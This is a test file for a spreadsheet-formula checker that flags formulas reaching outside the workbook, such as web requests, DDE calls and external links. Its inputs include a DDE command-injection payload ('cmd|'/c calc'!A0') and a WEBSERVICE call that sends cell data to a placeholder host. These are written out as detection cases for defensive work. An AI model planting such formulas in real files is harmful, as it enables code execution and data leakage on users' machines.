import { reachesOutside } from "../../src/formula/outside";

it.each([
  ['=WEBSERVICE("https://example.org/"&A1)', "WEBSERVICE"],
  ['=INASTI.ANNUAL(1)+_xlfn.WEBSERVICE("x")', "_xlfn.WEBSERVICE"],
  ['=hyperlink("x")', "hyperlink"],
  ['=_xlfn.IMAGE("x")', "_xlfn.IMAGE"],
  ['=RTD("a",,"b")', "RTD"],
  ['=CALL("a","b","c")', "CALL"],
  ['=REGISTER.ID("a","b")', "REGISTER.ID"],
  ['=SQL.REQUEST("a")', "SQL.REQUEST"],
  ['=EXEC("a")', "EXEC"],
  ['=CUBEVALUE("a","b")', "CUBEVALUE"],
  ['=STOCKHISTORY("a",1)', "STOCKHISTORY"],
  ['=_xlfn._xlws.PY("x",0)', "_xlfn._xlws.PY"],
  ["=MAP(A1:A3,WEBSERVICE)", "WEBSERVICE"],
  ["=cmd|'/c calc'!A0", "|"],
  ["=Excel|Book!R1C1", "|"],
  ["=[Book.xlsx]Sheet1!A1", "[Book.xlsx]Sheet1!"],
  ["='C:\\books\\[Book.xlsx]S 1'!A1", "'C:\\books\\[Book.xlsx]S 1'!"],
  ["=[1]!rate", "[1]!"],
  ["=Book.xlsm!INASTI.ANNUAL(1)", "Book.xlsm!"],
  ["='My book.xlsx'!rate", "'My book.xlsx'!"],
  ["='open", "'open"],
])("%s reaches outside by %s", (formula, part) => {
  expect(reachesOutside(formula)).toBe(part);
});

it.each([
  '="WEBSERVICE(1)"',
  "='WEBSERVICE(1)'!A1",
  "='a|b'!A1",
  "=Data[cmd|x]",
  '=IF(A1="",0,INASTI.QUARTERLY(Data!A1,"principal",2026))',
  "=INASTI.ANNUAL([@[Income a|b]])",
  "=LET(x,A1#,x*2%)",
  "=Jan:Dec!A1",
])("%s stays inside", (formula) => {
  expect(reachesOutside(formula)).toBeNull();
});
